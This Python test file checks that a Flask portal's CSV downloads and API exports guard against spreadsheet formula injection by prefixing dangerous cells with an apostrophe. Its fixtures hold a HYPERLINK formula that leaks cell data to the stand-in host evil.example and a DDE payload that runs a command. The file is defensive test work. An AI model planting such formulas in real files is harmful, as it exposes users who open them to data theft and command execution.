"""The one CSV writer: every CSV the portal serves (downloads, API listings, search results)
comes out with a hostile text guarded, so a spreadsheet shows it instead of running it."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from flask import Flask

from portal.debtors.importer import import_debtors
from portal.opendata.csv_text import csv_text
from portal.registers.identity import IdentityKeys
from portal.search.service import rebuild_search_index
from portal.web.db import session_factory
from tests.support.debtorfiles import person, write_csv
from tests.support.site import SiteBuilder

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
# Every start a spreadsheet reads as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cells(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


def test_a_text_that_a_spreadsheet_would_run_gets_an_apostrophe() -> None:
    text = csv_text(
        ["text", "list", "number", "flag", "empty"],
        [[start + "1+1", [start + "tag", "x"], -7.5, True, None] for start in FORMULA_STARTS]
        + [["plain", ["a", "b"], 3, False, None]],
    )
    rows = cells(text)
    assert [row["text"] for row in rows] == [f"'{start}1+1" for start in FORMULA_STARTS] + ["plain"]
    assert rows[0]["list"] == "'=tag;x"
    assert rows[-1]["list"] == "a;b"
    # A negative number is no formula, and stays a number for the data package's types.
    assert {row["number"] for row in rows[:-1]} == {"-7.5"}
    assert (rows[0]["flag"], rows[-1]["flag"], rows[0]["empty"]) == ("true", "false", "")
    assert text.endswith("\r\n")


@pytest.fixture
def hostile_app(make_app, site: SiteBuilder, database_url: str, tmp_path: Path) -> Flask:
    """A site whose every served CSV has a hostile text in it: a release, a case, a vocabulary
    label, a figure's label and the register's court."""
    site.vocabulary(
        courts={
            "minhang-district": {"en": HOSTILE, "zh": "闵行区人民法院"},
            "shanghai-no1-intermediate": {"en": "No.1 Intermediate Court", "zh": "第一中级"},
        }
    )
    site.standard().standard_cases().statistics()
    site.release(2020, "formula", "en", date="2020-06-01", title=HOSTILE,
                 body="A title a spreadsheet would run, about lending.")  # fmt: skip
    site.case("2020-difficult", "03-formula", "en", title=HOSTILE)
    data = site.statistics_data()
    data["groups"][0]["figures"][0]["label"]["en"] = HOSTILE
    site.statistics(data)
    app = make_app(database_url)
    factory = session_factory(app)
    rebuild_search_index(factory, Path(app.config["INDEX_DIR"]))
    listing = write_csv(
        tmp_path / "debtors.csv", [person("R1", court="@SUM(1+1)*cmd|' /C calc'!A0")]
    )
    import_debtors(factory, listing, IdentityKeys.from_secret(app.config["SECRET_KEY"]))
    return app


SERVED_CSVS = [
    "/data/press-releases.csv",
    "/data/cases.csv",
    "/data/vocabularies.csv",
    "/data/statistics.csv",
    "/data/register-statistics.csv",
    "/api/v1/press-releases?format=csv",
    "/api/v1/cases?format=csv",
    "/api/v1/vocabularies?format=csv",
    "/api/v1/statistics?format=csv",
    "/en/search/results.csv?q=lending",
]


def test_every_csv_the_portal_serves_guards_a_hostile_text(hostile_app: Flask) -> None:
    client = hostile_app.test_client()
    for url in SERVED_CSVS:
        answer = client.get(url)
        assert (answer.status_code, answer.mimetype) == (200, "text/csv"), url
        rows = cells(answer.get_data(as_text=True))
        values = [value for row in rows for value in row.values()]
        running = [
            value for value in values if value.startswith(FORMULA_STARTS) and not _is_number(value)
        ]
        assert running == [], url
        assert any(value.startswith(("'=", "'@")) for value in values), url


def _is_number(value: str) -> bool:
    try:
        float(value)
    except ValueError:
        return False
    return True
